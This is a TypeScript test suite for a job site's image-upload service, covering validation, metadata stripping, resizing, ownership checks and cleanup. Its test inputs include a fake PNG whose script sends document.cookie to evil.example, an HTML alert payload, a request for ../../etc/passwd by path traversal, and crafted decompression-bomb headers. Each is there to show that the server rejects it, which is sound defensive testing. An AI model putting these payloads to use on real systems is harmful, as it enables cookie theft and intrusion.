import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { Readable } from 'node:stream'
import sharp from 'sharp'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { MSG } from '../../../src/domain/messages'
import { API_MSG } from '../../../src/domain/api-messages'
import { IMAGE_MSG } from '../../../src/domain/image-messages'
import { hit } from '../../lib/rate-limit'
import { createTestContext, type TestContext } from '../../testing'
import { issueToken } from '../identity/tokens'
import { UPLOAD_LIMITS, sweepStaleUploads } from './media.upload'
import { createMediaDeps, deleteAllMedia, removeUnattachedMedia } from './media.service'
import { MEDIA_CLEANUP } from './media.cleanup'
import { backgroundWork } from '../../worker'
import { enqueue, runDueJobs } from '../../lib/queue'

let t: TestContext
let mediaDir: string
let owner: string
let other: string
let otherId: number

async function signUp(phone: string): Promise<{ id: number; token: string }> {
  const [user] = await t.db.query<{ id: number }>(
    `INSERT INTO users (phone, password_hash, full_name) VALUES ($1, 'x', 'Người Thử') RETURNING id`,
    [phone],
  )
  return { id: user.id, token: (await issueToken(t.db, user.id)).token }
}

// Uploads stream into temporary files under os.tmpdir(): this file's get a folder of their own, so
// that the check for leftovers sees only theirs, not those of a test file uploading at the same time
// in another worker process (it once saw one).
const sharedTmp = process.env.TMPDIR
let uploadsTmp = ''
beforeAll(async () => {
  mediaDir = fs.mkdtempSync(path.join(os.tmpdir(), 'viecvn-media-test-'))
  uploadsTmp = fs.mkdtempSync(path.join(os.tmpdir(), 'viecvn-media-uploads-'))
  process.env.TMPDIR = uploadsTmp
  t = await createTestContext({ seed: false, env: { mediaDir } })
  owner = (await signUp('0901111111')).token
  const second = await signUp('0902222222')
  other = second.token
  otherId = second.id
})
afterAll(async () => {
  await t.close()
  if (sharedTmp === undefined) delete process.env.TMPDIR
  else process.env.TMPDIR = sharedTmp
  fs.rmSync(mediaDir, { recursive: true, force: true })
  fs.rmSync(uploadsTmp, { recursive: true, force: true })
})

// ------------------------------------------------------------------------------------------------
// multipart bodies built by hand

const BOUNDARY = '----viecvn-test-boundary'
const partHead = (field: string, fileName: string, contentType: string) =>
  Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; filename="${fileName}"\r\nContent-Type: ${contentType}\r\n\r\n`,
  )
const TAIL = Buffer.from(`\r\n--${BOUNDARY}--\r\n`)
const multipartHeaders = (token: string | null) => ({
  'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
  ...(token ? { authorization: `Bearer ${token}` } : {}),
})

function body(data: Buffer, fileName = 'anh.png', contentType = 'image/png', field = 'file'): Buffer {
  return Buffer.concat([partHead(field, fileName, contentType), data, TAIL])
}

/** A multipart body whose file is `size` bytes, produced chunk by chunk (never held whole). */
function lazyBody(size: number, fileName: string, head: Buffer): Readable {
  const chunk = Buffer.alloc(64 * 1024, 0x41)
  let sent = 0
  let stage = 0
  return new Readable({
    read() {
      if (stage === 0) {
        stage = 1
        this.push(partHead('file', fileName, 'image/png'))
        this.push(head)
        sent = head.length
        return
      }
      if (sent < size) {
        const n = Math.min(chunk.length, size - sent)
        sent += n
        this.push(n === chunk.length ? chunk : chunk.subarray(0, n))
        return
      }
      if (stage === 1) {
        stage = 2
        this.push(TAIL)
        return
      }
      this.push(null)
    },
  })
}

const upload = (payload: Buffer | Readable, token: string | null = owner, url = '/media/v1/medias', method: 'POST' | 'PUT' = 'POST', extraHeaders: Record<string, string> = {}) =>
  t.app.inject({ method, url, payload, headers: { ...multipartHeaders(token), ...extraHeaders } })

const uploadAvatar = (payload: Buffer, token: string | null = owner) => upload(payload, token, '/job/v1/jobseekers/upload-avatar', 'PUT')

// ------------------------------------------------------------------------------------------------
// images

const solid = (width: number, height: number, background = '#2a7ae2') => sharp({ create: { width, height, channels: 3, background } })
const png = (width = 64, height = 48) => solid(width, height).png().toBuffer()
const gif = (width = 40, height = 30) => solid(width, height, '#e2a72a').gif().toBuffer()
/** A camera-like JPEG: EXIF orientation 6 (turn 90° clockwise to view) and GPS coordinates. */
const cameraJpeg = () =>
  solid(80, 40, '#ff0000')
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneCam', Copyright: 'bí mật' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '10/1 46/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '106/1 41/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer()

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc32 = (data: Buffer) => {
  let c = 0xffffffff
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

/** A tiny PNG whose header declares width x height (a decompression bomb's calling card). */
async function pngDeclaring(width: number, height: number): Promise<Buffer> {
  const data = Buffer.from(await solid(1, 1).png().toBuffer())
  // signature (8) + IHDR length (4) + "IHDR" (4) + width (4) + height (4) ... CRC over type + data
  data.writeUInt32BE(width, 16)
  data.writeUInt32BE(height, 20)
  data.writeUInt32BE(crc32(data.subarray(12, 29)), 29)
  return data
}

async function gifDeclaring(width: number, height: number): Promise<Buffer> {
  const data = Buffer.from(await gif(1, 1))
  // the logical screen (bytes 6-9) and the frame's image descriptor: decoders size by the frame
  const frame = data.indexOf(0x2c, 13)
  for (const offset of [6, frame + 5]) {
    data.writeUInt16LE(width, offset)
    data.writeUInt16LE(height, offset + 2)
  }
  return data
}

const fetchFile = (url: string, accept = 'image/avif,image/webp,*/*', token?: string) =>
  t.app.inject({ method: 'GET', url, headers: { accept, ...(token ? { authorization: `Bearer ${token}` } : {}) } })

const uploadsInTmp = () => fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith('viecvn-upload-'))
// the temporary files this test's uploads left behind (in this file's own folder, above)
let uploadsBefore = new Set<string>()
beforeEach(() => {
  uploadsBefore = new Set(uploadsInTmp())
})
const leftoverUploads = () => uploadsInTmp().filter((name) => !uploadsBefore.has(name))

const filesUnder = (dir: string): string[] =>
  fs.existsSync(dir)
    ? fs.readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
        entry.isDirectory() ? filesUnder(path.join(dir, entry.name)) : [path.join(dir, entry.name)],
      )
    : []

// ------------------------------------------------------------------------------------------------

describe('POST /media/v1/medias', () => {
  it('stores a real PNG, JPEG and GIF and answers { id, url, width, height }', async () => {
    for (const [data, name, type, size] of [
      [await png(64, 48), 'anh-cua-toi.png', 'image/png', [64, 48]],
      [await solid(120, 90).jpeg().toBuffer(), 'the-sinh-vien.jpg', 'image/jpeg', [120, 90]],
      [await gif(40, 30), 'hoat-hinh.gif', 'image/gif', [40, 30]],
    ] as const) {
      const res = await upload(body(data, name, type))
      expect(res.statusCode, res.body).toBe(200)
      expect(res.headers['cache-control']).toBe('private, no-store')
      const { success, data: media } = res.json()
      expect(success).toBe(true)
      expect(media).toEqual({ id: expect.any(Number), url: expect.stringMatching(/^\/media\/v1\/files\/[0-9a-f]{32}$/), width: size[0], height: size[1] })
      const file = await fetchFile(media.url)
      expect(file.statusCode).toBe(200)
      expect(file.headers['content-type']).toBe('image/webp')
      const meta = await sharp(file.rawPayload).metadata()
      expect([meta.format, meta.width, meta.height]).toEqual(['webp', size[0], size[1]])
    }
    // stored under random keys, never the person's file name
    const stored = filesUnder(mediaDir).map((file) => path.basename(file))
    expect(stored.some((name) => /anh-cua-toi|the-sinh-vien|hoat-hinh/.test(name))).toBe(false)
    expect(leftoverUploads()).toEqual([])
  })

  it('turns a photo upright by its EXIF orientation and strips EXIF and GPS from everything it stores and serves', async () => {
    const input = await cameraJpeg()
    const inputMeta = await sharp(input).metadata()
    expect(inputMeta.exif).toBeDefined()
    expect(inputMeta.orientation).toBe(6)

    const res = await upload(body(input, 'IMG_0001.JPG', 'image/jpeg'))
    expect(res.statusCode, res.body).toBe(200)
    const media = res.json().data
    // 80x40 turned a quarter: 40 wide, 80 high
    expect([media.width, media.height]).toEqual([40, 80])

    for (const file of filesUnder(path.join(mediaDir, 'masters'))) {
      const meta = await sharp(file).metadata()
      expect(meta.exif).toBeUndefined()
      expect(meta.xmp).toBeUndefined()
      expect(meta.orientation).toBeUndefined()
    }
    for (const accept of ['image/webp', 'image/jpeg']) {
      const served = await fetchFile(media.url, accept)
      const meta = await sharp(served.rawPayload).metadata()
      expect([meta.width, meta.height]).toEqual([40, 80])
      expect(meta.exif).toBeUndefined()
      expect(meta.icc).toBeUndefined()
      expect(served.rawPayload.includes(Buffer.from('PhoneCam'))).toBe(false)
    }
    // the top row of the upright picture is what was the left column: still pure red
    const { data } = await sharp((await fetchFile(media.url, 'image/webp')).rawPayload).raw().toBuffer({ resolveWithObject: true })
    expect(data[0]).toBeGreaterThan(200)
  })

  it('rejects a 31 MB upload while it streams, with "Ảnh {file} đã vượt quá 30MB", keeping nothing', async () => {
    const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
    const res = await upload(lazyBody(31 * 1024 * 1024, 'anh-qua-lon.png', pngSignature))
    expect(res.statusCode).toBe(413)
    expect(res.json()).toEqual({ success: false, error: { code: 'image_too_large', message: 'Ảnh anh-qua-lon.png đã vượt quá 30MB' } })
    expect(res.json().error.message).toBe(IMAGE_MSG.imageTooLarge('anh-qua-lon.png'))
    expect(leftoverUploads()).toEqual([])
  })

  it('refuses a declared Content-Length over 30 MB before reading the file', async () => {
    const res = await upload(body(await png(), 'khong-lo.png'), owner, '/media/v1/medias', 'POST', {
      'content-length': String(40 * 1024 * 1024),
    })
    expect(res.statusCode).toBe(413)
    expect(res.json().error.message).toBe('Ảnh khong-lo.png đã vượt quá 30MB')
  })

  it('rejects a PNG header on a script: decoding fails, nothing is stored', async () => {
    const before = filesUnder(mediaDir).length
    const script = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>'),
    ])
    const res = await upload(body(script, 'avatar.png', 'image/png'))
    expect(res.statusCode).toBe(400)
    expect(res.json()).toEqual({ success: false, error: { code: 'invalid_image', message: IMAGE_MSG.imageUnreadable('avatar.png') } })
    expect(filesUnder(mediaDir).length).toBe(before)
    expect(leftoverUploads()).toEqual([])
  })

  it('judges the type by magic bytes, not by the name or the Content-Type', async () => {
    const html = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>')
    const res = await upload(body(html, 'anh.png', 'image/png'))
    expect(res.statusCode).toBe(400)
    expect(res.json().error).toEqual({ code: 'invalid_image_type', message: 'Ảnh anh.png không đúng định dạng, chỉ nhận ảnh jpeg, gif, png' })

    const webp = await solid(10, 10).webp().toBuffer()
    expect((await upload(body(webp, 'anh.jpg', 'image/jpeg'))).json().error.code).toBe('invalid_image_type')

    // a real PNG sent as "photo.txt" with text/plain is still a PNG
    const real = await upload(body(await png(), 'photo.txt', 'text/plain'))
    expect(real.statusCode).toBe(200)
  })

  it('rejects an image declaring 20000x20000 pixels before decoding it', async () => {
    for (const [data, name] of [
      [await pngDeclaring(20_000, 20_000), 'bom.png'],
      [await gifDeclaring(20_000, 20_000), 'bom.gif'],
    ] as const) {
      expect(data.length).toBeLessThan(1024)
      const res = await upload(body(data, name))
      expect(res.statusCode).toBe(400)
      expect(res.json().error).toEqual({ code: 'image_too_many_pixels', message: IMAGE_MSG.imagePixels(name, 50) })
    }
  })

  it('asks for a file: wrong field, no file, not multipart', async () => {
    const wrongField = await upload(body(await png(), 'a.png', 'image/png', 'image'))
    expect(wrongField.statusCode).toBe(400)
    expect(wrongField.json().error.message).toBe(IMAGE_MSG.imageRequired)

    const empty = await upload(Buffer.from(`--${BOUNDARY}--\r\n`))
    expect(empty.statusCode).toBe(400)
    expect(empty.json().error.message).toBe(IMAGE_MSG.imageRequired)

    const json = await t.app.inject({
      method: 'POST',
      url: '/media/v1/medias',
      payload: { file: 'x' },
      headers: { authorization: `Bearer ${owner}` },
    })
    expect(json.statusCode).toBe(415)
    expect(json.json().error.code).toBe('unsupported_media_type')
  })

  it('refuses a second file in a one-file upload instead of ignoring it, keeping nothing', async () => {
    const before = (await t.db.query('SELECT id FROM media')).length
    const two = Buffer.concat([
      partHead('file', 'mot.png', 'image/png'),
      await png(),
      Buffer.from('\r\n'),
      partHead('file', 'hai.png', 'image/png'),
      await png(),
      TAIL,
    ])
    const res = await upload(two)
    expect(res.statusCode).toBe(400)
    expect(res.json().error.message).toBe(IMAGE_MSG.imageTooManyFiles)
    expect((await t.db.query('SELECT id FROM media')).length).toBe(before)
  })

  it('answers 401 "Bạn cần đăng nhập!" to a visitor, before reading the upload', async () => {
    const data = body(await png())
    for (const res of [
      await upload(data, null),
      await uploadAvatar(data, null),
      await t.app.inject({ method: 'PUT', url: '/media/v1/medias/1/rotate', payload: { degrees: 90 } }),
      await t.app.inject({ method: 'DELETE', url: '/media/v1/medias/1' }),
      await upload(data, 'khong-hop-le'),
    ]) {
      expect(res.statusCode).toBe(401)
      expect(res.json()).toEqual({ success: false, error: { code: 'unauthorized', message: API_MSG.needLogin } })
    }
  })

  it('limits uploads per person (429 with Retry-After)', async () => {
    const busy = await signUp('0903333333')
    for (let i = 0; i < UPLOAD_LIMITS.burst.limit; i++) await hit(t.db, UPLOAD_LIMITS.burst, String(busy.id))
    const res = await upload(body(await png()), busy.token)
    expect(res.statusCode).toBe(429)
    expect(res.headers['retry-after']).toMatch(/^\d+$/)
    expect(res.json().error.message).toBe(IMAGE_MSG.imageUploadTooMany)
    // someone else is not affected
    expect((await upload(body(await png()), other)).statusCode).toBe(200)
  })
})

describe('temporary upload files', () => {
  it('a file left by a server that died mid-upload is swept at start once it is an hour old; a fresh one stays', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sweep-'))
    try {
      const stale = path.join(dir, 'viecvn-upload-stale')
      const fresh = path.join(dir, 'viecvn-upload-fresh')
      const other = path.join(dir, 'someone-elses-file')
      for (const file of [stale, fresh, other]) fs.writeFileSync(file, '')
      const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000)
      fs.utimesSync(stale, twoHoursAgo, twoHoursAgo)
      fs.utimesSync(other, twoHoursAgo, twoHoursAgo)
      expect(await sweepStaleUploads(3_600_000, dir)).toBe(1)
      expect(fs.readdirSync(dir).sort()).toEqual(['someone-elses-file', 'viecvn-upload-fresh'])
    } finally {
      fs.rmSync(dir, { recursive: true, force: true })
    }
  })
})

describe('contract', () => {
  it('documents the media routes in /openapi.json', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/openapi.json' })
    expect(res.statusCode).toBe(200)
    const paths = Object.keys(res.json().paths)
    expect(paths).toEqual(
      expect.arrayContaining([
        '/media/v1/medias',
        '/media/v1/medias/{id}/rotate',
        '/media/v1/medias/{id}',
        '/media/v1/files/{name}',
        '/job/v1/jobseekers/upload-avatar',
      ]),
    )
  })
})

describe('PUT /job/v1/jobseekers/upload-avatar', () => {
  it('stores a 300x300 avatar and answers { success, data: { success, url } }', async () => {
    const res = await uploadAvatar(body(await solid(640, 480).jpeg().toBuffer(), 'chan-dung.jpg', 'image/jpeg'))
    expect(res.statusCode, res.body).toBe(200)
    const json = res.json()
    expect(json).toEqual({ success: true, data: { success: true, url: expect.stringMatching(/^\/media\/v1\/files\/[0-9a-f]{32}$/) } })
    const file = await fetchFile(json.data.url)
    const meta = await sharp(file.rawPayload).metadata()
    expect([meta.width, meta.height]).toEqual([300, 300])
    const [row] = await t.db.query<{ kind: string }>(`SELECT kind FROM media ORDER BY id DESC LIMIT 1`)
    expect(row.kind).toBe('avatar')
    // the 48 px of the job-seeker box (SPEC 2.5)
    const small = await sharp((await fetchFile(`${json.data.url}?w=48`)).rawPayload).metadata()
    expect([small.width, small.height]).toEqual([48, 48])
  })

  it("puts the new avatar on the seeker's profile when there is one", async () => {
    const seeker = await signUp('0904444444')
    await t.db.query(`INSERT INTO jobseekers (user_id, full_name, consent_at) VALUES ($1, 'Người Thử', now())`, [seeker.id])
    const res = await uploadAvatar(body(await png(300, 300), 'moi.png'), seeker.token)
    expect(res.statusCode, res.body).toBe(200)
    const [profile] = await t.db.query<{ image_url: string; avatar_media_id: string }>(
      'SELECT image_url, avatar_media_id FROM jobseekers WHERE user_id = $1',
      [seeker.id],
    )
    const [media] = await t.db.query<{ id: number }>('SELECT id FROM media WHERE user_id = $1', [seeker.id])
    expect(profile).toEqual({ image_url: res.json().data.url, avatar_media_id: String(media.id) })
  })

  it('applies the same checks as any upload', async () => {
    const res = await uploadAvatar(body(await pngDeclaring(20_000, 20_000), 'bom.png'))
    expect(res.statusCode).toBe(400)
    expect(res.json().success).toBe(false)
  })
})

describe('GET /media/v1/files/{name}', () => {
  let url: string
  beforeAll(async () => {
    const res = await upload(body(await png(1500, 1000), 'rong.png'))
    url = res.json().data.url
  })

  it('serves the widths of SPEC 9, snapping others up to the next one, never enlarging', async () => {
    for (const [w, expected] of [
      [16, 16],
      [100, 128],
      [384, 384],
      [385, 800],
      [1024, 1024],
      [5000, 1024],
    ]) {
      const res = await fetchFile(`${url}?w=${w}`)
      expect(res.statusCode).toBe(200)
      expect((await sharp(res.rawPayload).metadata()).width, `w=${w}`).toBe(expected)
    }
    // without w: the largest size
    expect((await sharp((await fetchFile(url)).rawPayload).metadata()).width).toBe(1024)
  })

  it('chooses WebP or JPEG by Accept, with long cache headers, generating each size once', async () => {
    const webp = await fetchFile(`${url}?w=256`, 'image/webp,*/*')
    expect(webp.headers['content-type']).toBe('image/webp')
    expect(webp.headers['cache-control']).toBe('private, max-age=3600')
    expect(webp.headers.vary).toMatch(/Accept/)
    expect(webp.headers['x-content-type-options']).toBe('nosniff')

    const jpeg = await fetchFile(`${url}?w=256`, '*/*')
    expect(jpeg.headers['content-type']).toBe('image/jpeg')
    expect((await sharp(jpeg.rawPayload).metadata()).format).toBe('jpeg')

    const key = url.split('/').pop()!
    const cached = path.join(mediaDir, 'variants', key, 'r0-w256-q75.webp')
    expect(fs.existsSync(cached)).toBe(true)
    const mtime = fs.statSync(cached).mtimeMs
    const again = await fetchFile(`${url}?w=256`, 'image/webp')
    expect(again.rawPayload.equals(webp.rawPayload)).toBe(true)
    expect(fs.statSync(cached).mtimeMs).toBe(mtime)

    const revalidate = await t.app.inject({ method: 'GET', url: `${url}?w=256`, headers: { accept: 'image/webp', 'if-none-match': webp.headers.etag as string } })
    expect(revalidate.statusCode).toBe(304)
  })

  it('uses quality 75 by default and snaps q to the allowed qualities', async () => {
    const key = url.split('/').pop()!
    await fetchFile(`${url}?w=64`, 'image/webp')
    await fetchFile(`${url}?w=64&q=80`, 'image/webp')
    const names = fs.readdirSync(path.join(mediaDir, 'variants', key))
    expect(names).toEqual(expect.arrayContaining(['r0-w64-q75.webp', 'r0-w64-q90.webp']))
  })

  it('answers 404 for unknown names and 400 for a bad width', async () => {
    expect((await fetchFile('/media/v1/files/0123456789abcdef0123456789abcdef')).statusCode).toBe(404)
    expect((await fetchFile('/media/v1/files/..%2F..%2Fetc%2Fpasswd')).statusCode).toBe(404)
    expect((await fetchFile('/media/v1/files/anh.png')).statusCode).toBe(404)
    const bad = await fetchFile(`${url}?w=abc`)
    expect(bad.statusCode).toBe(400)
    expect(bad.json().error.message).toBe('Chiều rộng ảnh (w) phải là số nguyên dương.')
  })
})

describe('rotate and delete: owner only', () => {
  it('rotates by quarter turns: new URL, swapped size, rotated pixels', async () => {
    const created = (await upload(body(await png(200, 100), 'xoay.png'))).json().data
    const rotate = (degrees: number, token = owner) =>
      t.app.inject({ method: 'PUT', url: `/media/v1/medias/${created.id}/rotate`, payload: { degrees }, headers: { authorization: `Bearer ${token}` } })

    const once = await rotate(90)
    expect(once.statusCode, once.body).toBe(200)
    expect(once.json().data).toEqual({ id: created.id, url: `${created.url}-r90`, width: 100, height: 200 })
    const served = await sharp((await fetchFile(once.json().data.url)).rawPayload).metadata()
    expect([served.width, served.height]).toEqual([100, 200])

    const twice = (await rotate(270)).json().data
    expect(twice).toEqual({ id: created.id, url: created.url, width: 200, height: 100 })

    const bad = await rotate(45)
    expect(bad.statusCode).toBe(400)
    expect(bad.json().error.message).toBe('Góc xoay phải là 90, 180 hoặc 270 độ.')
  })

  it("answers 404 to another person's rotate or delete and changes nothing", async () => {
    const created = (await upload(body(await png(), 'cua-toi.png'))).json().data
    const rotate = await t.app.inject({
      method: 'PUT',
      url: `/media/v1/medias/${created.id}/rotate`,
      payload: { degrees: 90 },
      headers: { authorization: `Bearer ${other}` },
    })
    expect(rotate.statusCode).toBe(404)
    expect(rotate.json()).toEqual({ success: false, error: { code: 'not_found', message: MSG.notFound } })

    const remove = await t.app.inject({ method: 'DELETE', url: `/media/v1/medias/${created.id}`, headers: { authorization: `Bearer ${other}` } })
    expect(remove.statusCode).toBe(404)

    const [row] = await t.db.query<{ rotation: number; deleted_at: Date | null; user_id: number }>(
      'SELECT rotation, deleted_at, user_id FROM media WHERE id = $1',
      [created.id],
    )
    expect(row.rotation).toBe(0)
    expect(row.deleted_at).toBeNull()
    expect(row.user_id).not.toBe(otherId)
    expect((await fetchFile(created.url)).statusCode).toBe(200)
  })

  it('deletes for the owner: the row is marked, the files are gone, the URL answers 404', async () => {
    const created = (await upload(body(await png(), 'xoa.png'))).json().data
    await fetchFile(`${created.url}?w=64`)
    const key = created.url.split('/').pop()
    expect(fs.existsSync(path.join(mediaDir, 'variants', key))).toBe(true)

    const res = await t.app.inject({ method: 'DELETE', url: `/media/v1/medias/${created.id}`, headers: { authorization: `Bearer ${owner}` } })
    expect(res.statusCode).toBe(200)
    expect(res.json()).toEqual({ success: true, data: null })
    expect(fs.existsSync(path.join(mediaDir, 'masters', `${key}.webp`))).toBe(false)
    expect(fs.existsSync(path.join(mediaDir, 'variants', key))).toBe(false)
    expect((await fetchFile(created.url)).statusCode).toBe(404)
    expect((await fetchFile(`${created.url}?w=64`)).statusCode).toBe(404)

    const again = await t.app.inject({ method: 'DELETE', url: `/media/v1/medias/${created.id}`, headers: { authorization: `Bearer ${owner}` } })
    expect(again.statusCode).toBe(404)
    const rotate = await t.app.inject({
      method: 'PUT',
      url: `/media/v1/medias/${created.id}/rotate`,
      payload: { degrees: 90 },
      headers: { authorization: `Bearer ${owner}` },
    })
    expect(rotate.statusCode).toBe(404)
  })

  it('removes every image of a person at once (profile or account deletion)', async () => {
    const leaving = await signUp('0905555555')
    const urls: string[] = []
    for (const name of ['a.png', 'b.png']) urls.push((await upload(body(await png(), name), leaving.token)).json().data.url)
    urls.push((await uploadAvatar(body(await png(), 'c.png'), leaving.token)).json().data.url)
    const kept = (await upload(body(await png(), 'giu.png'), other)).json().data.url

    const deps = createMediaDeps(t.db, t.env)
    expect(await deleteAllMedia(deps, leaving.id, 'avatar')).toBe(1)
    expect((await fetchFile(urls[2])).statusCode).toBe(404)
    expect((await fetchFile(urls[0])).statusCode).toBe(200)
    expect(await deleteAllMedia(deps, leaving.id)).toBe(2)
    for (const url of urls) expect((await fetchFile(url)).statusCode).toBe(404)
    expect(fs.existsSync(path.join(mediaDir, 'variants', urls[0].split('/').pop()!))).toBe(false)
    expect((await fetchFile(kept)).statusCode).toBe(200)
  })

  it('deleting a profile removes its pictures (their URLs answer 404) and the export lists every file held', async () => {
    const seeker = await signUp('0906666666')
    await t.db.query(`INSERT INTO jobseekers (user_id, full_name, consent_at) VALUES ($1, 'Người Thử', now())`, [seeker.id])
    const avatar = (await uploadAvatar(body(await png(300, 300), 'mat.png'), seeker.token)).json().data.url
    const loose = (await upload(body(await png(), 'le.png'), seeker.token)).json().data.url
    const exported = await t.app.inject({ method: 'GET', url: '/job/v1/jobseekers/self/export', headers: { authorization: `Bearer ${seeker.token}` } })
    expect(exported.json().data.files.map((f: { url: string; in_use: boolean }) => [f.url, f.in_use])).toEqual([
      [avatar, true],
      [loose, false],
    ])
    expect((await fetchFile(avatar)).statusCode).toBe(200)
    const deleted = await t.app.inject({ method: 'DELETE', url: '/job/v1/jobseekers/self', headers: { authorization: `Bearer ${seeker.token}` } })
    expect(deleted.statusCode).toBe(200)
    for (const url of [avatar, loose]) expect((await fetchFile(url)).statusCode).toBe(404)
    const after = await t.app.inject({ method: 'GET', url: '/job/v1/jobseekers/self/export', headers: { authorization: `Bearer ${seeker.token}` } })
    expect(after.json().data.files).toEqual([])
  })

  it('removes uploads never attached, and replaced avatars, a day later through the background worker', async () => {
    const seeker = await signUp('0907777777')
    await t.db.query(`INSERT INTO jobseekers (user_id, full_name, consent_at) VALUES ($1, 'Người Thử', now())`, [seeker.id])
    const first = (await uploadAvatar(body(await png(300, 300), 'cu.png'), seeker.token)).json().data.url
    const second = (await uploadAvatar(body(await png(300, 300), 'moi.png'), seeker.token)).json().data.url
    const loose = (await upload(body(await png(), 'le.png'), seeker.token)).json().data.url
    const deps = createMediaDeps(t.db, t.env)
    // nothing is removed before a day has passed
    expect(await removeUnattachedMedia(deps, MEDIA_CLEANUP.keepUnattachedMs)).toBe(0)
    await t.db.query(`UPDATE media SET created_at = now() - interval '25 hours' WHERE user_id = $1`, [seeker.id])
    const work = backgroundWork({ db: t.db, env: t.env, realtime: t.app.realtime, reference: t.app.reference })
    expect(work.recurring).toContainEqual({ kind: MEDIA_CLEANUP.kind, everyMs: MEDIA_CLEANUP.everyMs })
    await enqueue(t.db, MEDIA_CLEANUP.kind)
    await runDueJobs(t.db, work.handlers)
    expect((await fetchFile(first)).statusCode).toBe(404)
    expect((await fetchFile(loose)).statusCode).toBe(404)
    expect((await fetchFile(second)).statusCode).toBe(200)
  })
})
